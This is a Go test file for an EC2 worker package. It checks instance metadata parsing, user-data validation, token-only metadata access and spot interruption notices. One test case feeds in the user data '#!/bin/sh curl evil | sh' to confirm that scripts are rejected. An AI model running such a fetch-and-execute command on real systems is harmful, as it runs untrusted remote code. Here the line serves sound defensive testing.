package ec2_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/taskfleet/taskfleet/worker/ec2"
	"github.com/taskfleet/taskfleet/worker/ec2/imdstest"
)

const document = "{\n  \"instanceId\" : \"i-1\",\n  \"instanceType\" : \"m7g.large\",\n  \"imageId\" : \"ami-1\",\n  \"region\" : \"eu-west-1\",\n  \"availabilityZone\" : \"eu-west-1b\"\n}"

const userData = `{"rootUrl": "https://taskfleet.example.com", "workerPoolId": "aws/build", "providerId": "aws-1", "workerGroup": "ireland", "workerConfig": {"capacity": 4}, "more": [1]}`

var whole = imdstest.Instance{ID: "i-1", UserData: userData, Document: document, Signature: "c2lnbmF0dXJl\nMQ==", RSA2048: "TUlJ\nQ=="}

// open starts a metadata service and a machine that asks it.
func open(t *testing.T, i imdstest.Instance) (*imdstest.Server, *ec2.Machine) {
	t.Helper()
	s, err := imdstest.Start(i)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	t.Setenv("AWS_EC2_METADATA_SERVICE_ENDPOINT", s.URL())
	return s, ec2.New(slog.New(slog.DiscardHandler))
}

func TestAnInstanceSaysWhoItIs(t *testing.T) {
	// A proxy would not know, and the service does not take requests from one.
	t.Setenv("HTTP_PROXY", "http://127.0.0.1:1")
	_, m := open(t, whole)
	i, err := m.Boot(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if want := (ec2.UserData{RootURL: "https://taskfleet.example.com", WorkerPoolID: "aws/build", ProviderID: "aws-1", WorkerGroup: "ireland"}); i.UserData != want {
		t.Errorf("the user data is %+v, want %+v", i.UserData, want)
	}
	if want := (ec2.Document{InstanceID: "i-1", InstanceType: "m7g.large", ImageID: "ami-1", Region: "eu-west-1", AvailabilityZone: "eu-west-1b"}); i.Document != want {
		t.Errorf("the document is %+v, want %+v", i.Document, want)
	}
	var proofs []map[string]string
	for _, text := range i.Proofs {
		var p map[string]string
		if err := json.Unmarshal(text, &p); err != nil {
			t.Fatal(err)
		}
		proofs = append(proofs, p)
	}
	want := []map[string]string{{"document": document, "pkcs7": whole.RSA2048}, {"document": document, "signature": whole.Signature}}
	if fmt.Sprint(proofs) != fmt.Sprint(want) {
		t.Errorf("the proofs are %q, want, byte for byte, %q", proofs, want)
	}
}

func TestWithOneSignatureThereIsOneProof(t *testing.T) {
	i := whole
	i.RSA2048 = ""
	_, m := open(t, i)
	if got, err := m.Boot(t.Context()); err != nil || len(got.Proofs) != 1 || !strings.Contains(string(got.Proofs[0]), "c2lnbmF0dXJl") {
		t.Errorf("the proofs are %s, %v", got.Proofs, err)
	}
}

func TestUserData(t *testing.T) {
	s, m := open(t, whole)
	template, err := os.ReadFile("../../docs/aws-user-data.yml")
	if err != nil {
		t.Fatal(err)
	}
	for name, test := range map[string]struct {
		text  string
		group string
		shut  string
		wants string // of the error
	}{
		"of worker-manager":     {userData, "ireland", "nil", ""},
		"without a group":       {strings.Replace(userData, "workerGroup", "x", 1), "eu-west-1", "nil", ""},
		"of a machine of yours": {strings.Replace(userData, `"more"`, `"shutdown": false, "more"`, 1), "ireland", "false", ""},
		"of one that is ours":   {strings.Replace(userData, `"more"`, `"shutdown": true, "more"`, 1), "ireland", "true", ""},
		"cloud-init with JSON":  {"#cloud-config\n" + userData, "ireland", "nil", ""},
		"cloud-init":            {"#cloud-config\nrootUrl: https://x\nworkerPoolId: a/b\nproviderId: c\nruncmd: [[echo, hello]]\nshutdown: false\n", "eu-west-1", "false", ""},
		"the template":          {string(template), "eu-west-1", "nil", ""},
		"a script":              {"#!/bin/sh\ncurl evil | sh\n", "", "", "it is a script"},
		"of something else":     {`{"cluster": "x"}`, "", "", "it lacks rootUrl, workerPoolId, providerId"},
		"no JSON":               {userData[:50], "", "", "neither JSON nor YAML"},
		"the wrong type":        {strings.Replace(userData, `"more"`, `"shutdown": "never", "more"`, 1), "", "", "wrong type"},
	} {
		s.Update(func(i *imdstest.Instance) { i.UserData = test.text })
		i, err := m.Boot(t.Context())
		if test.wants != "" {
			var stranger *ec2.NotForWorkers
			if !errors.As(err, &stranger) || !strings.Contains(err.Error(), test.wants) {
				t.Errorf("%s: err is %v, want %q", name, err, test.wants)
			}
			continue
		}
		shut := "nil"
		if i.UserData.Shutdown != nil {
			shut = fmt.Sprint(*i.UserData.Shutdown)
		}
		if err != nil || i.UserData.WorkerGroup != test.group || shut != test.shut {
			t.Errorf("%s: group %q, shutdown %s, %v", name, i.UserData.WorkerGroup, shut, err)
		}
	}
}

func TestBootWaitsUntilTheMetadataIsThere(t *testing.T) {
	for name, test := range map[string]struct{ spoil, mend func(*imdstest.Server) }{
		"the service": {func(s *imdstest.Server) { s.Enable(false) }, func(s *imdstest.Server) { s.Enable(true) }},
		"the document": {
			func(s *imdstest.Server) { s.Update(func(i *imdstest.Instance) { i.Document = "" }) },
			func(s *imdstest.Server) { s.Update(func(i *imdstest.Instance) { i.Document = document }) },
		},
	} {
		t.Run(name, func(t *testing.T) {
			s, _ := open(t, whole)
			test.spoil(s)
			mended := make(chan bool, 1)
			m := ec2.New(slog.New(slog.NewTextHandler(writer(func([]byte) {
				select {
				case mended <- true:
					test.mend(s)
				default:
				}
			}), nil)))
			if i, err := m.Boot(t.Context()); err != nil || i.Document.InstanceID != "i-1" || len(mended) == 0 {
				t.Errorf("%+v, %v", i, err)
			}
		})
	}
}

type writer func([]byte)

func (w writer) Write(p []byte) (int, error) { w(p); return len(p), nil }

func TestBootGivesUpWithTheReason(t *testing.T) {
	s, m := open(t, whole)
	s.Update(func(i *imdstest.Instance) { i.UserData = "" })
	ctx, stop := context.WithTimeoutCause(t.Context(), 100*time.Millisecond, errors.New("took too long"))
	defer stop()
	_, err := m.Boot(ctx)
	if err == nil || !strings.Contains(err.Error(), "took too long") || !strings.Contains(err.Error(), "user-data") {
		t.Errorf("err is %v", err)
	}
}

func TestVersion1IsNotUsed(t *testing.T) {
	// A service that gives no tokens and answers everybody.
	old := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPut {
			w.WriteHeader(http.StatusNotFound)
			return
		}
		fmt.Fprint(w, userData)
	}))
	defer old.Close()
	t.Setenv("AWS_EC2_METADATA_SERVICE_ENDPOINT", old.URL)
	ctx, stop := context.WithTimeout(t.Context(), 100*time.Millisecond)
	defer stop()
	if _, err := ec2.New(slog.New(slog.DiscardHandler)).Boot(ctx); err == nil {
		t.Error("it believes a service without tokens")
	}
}

// watch collects notices in words.
func watch(t *testing.T, m *ec2.Machine) (next func() string, ended <-chan struct{}) {
	t.Helper()
	notices, done := make(chan string, 10), make(chan struct{})
	go func() {
		defer close(done)
		m.Watch(t.Context(), 5*time.Millisecond, func(n ec2.Notice) { notices <- n.String() })
	}()
	return func() string {
		select {
		case n := <-notices:
			return n
		case <-time.After(5 * time.Minute):
			t.Fatal("there is no notice")
			return ""
		}
	}, done
}

func TestNotices(t *testing.T) {
	at := time.Date(2026, 3, 4, 5, 6, 7, 0, time.UTC)
	s, m := open(t, whole)
	s.Schedule("system-reboot", at, at)
	s.Complete() // which is no notice
	next, ended := watch(t, m)
	s.Recommend()
	got := []string{next()}
	s.Schedule("instance-stop", at, at.Add(time.Hour))
	got = append(got, next())
	s.InterruptWith("stop", at)
	got = append(got, next())
	<-ended
	want := []string{
		"EC2 recommends to replace the instance, which is at a higher risk of interruption",
		"EC2 has scheduled maintenance of the instance (instance-stop) at 2026-03-04T05:06:07Z",
		"EC2 interrupts the instance (stop) at 2026-03-04T05:06:07Z",
	}
	if !slices.Equal(got, want) {
		t.Errorf("the notices are %q, want %q", got, want)
	}
}

func TestNoticesInOddForms(t *testing.T) {
	for name, test := range map[string]struct{ path, content, wants string }{
		"an action that is no JSON":           {"spot/instance-action", "soon", "EC2 interrupts the instance (unknown)"},
		"a termination time alone":            {"spot/termination-time", "2026-03-04T05:06:07Z", "EC2 interrupts the instance (terminate) at 2026-03-04T05:06:07Z"},
		"a rebalance that says nothing":       {"events/recommendations/rebalance", "{}", "EC2 recommends"},
		"maintenance at a time in other form": {"events/maintenance/scheduled", `[{"Code": "system-reboot", "State": "active", "NotBefore": "soon"}]`, "EC2 has scheduled maintenance of the instance (system-reboot)"},
	} {
		t.Run(name, func(t *testing.T) {
			odd := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				switch {
				case r.Method == http.MethodPut:
					w.Header().Set("X-Aws-Ec2-Metadata-Token-Ttl-Seconds", "300")
					fmt.Fprint(w, "token")
				case r.URL.Path == "/latest/meta-data/"+test.path:
					fmt.Fprint(w, test.content)
				default:
					w.WriteHeader(http.StatusNotFound)
				}
			}))
			t.Cleanup(odd.Close)
			t.Setenv("AWS_EC2_METADATA_SERVICE_ENDPOINT", odd.URL)
			next, _ := watch(t, ec2.New(slog.New(slog.DiscardHandler)))
			if got := next(); !strings.HasPrefix(got, test.wants) {
				t.Errorf("the notice is %q, want %q", got, test.wants)
			}
		})
	}
}

func TestAServiceThatFailsForAWhile(t *testing.T) {
	s, _ := open(t, whole)
	var log syncBuffer
	m := ec2.New(slog.New(slog.NewTextHandler(&log, nil)))
	s.Enable(false)
	next, _ := watch(t, m)
	for log.String() == "" {
		time.Sleep(time.Millisecond) // requests are made all the while
	}
	s.Interrupt(time.Now())
	s.Enable(true)
	if got := next(); !strings.HasPrefix(got, "EC2 interrupts the instance") {
		t.Errorf("the notice is %q", got)
	}
	if n := strings.Count(log.String(), "\n"); n != 1 {
		t.Errorf("the log has %d lines:\n%s", n, &log)
	}
}

type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}
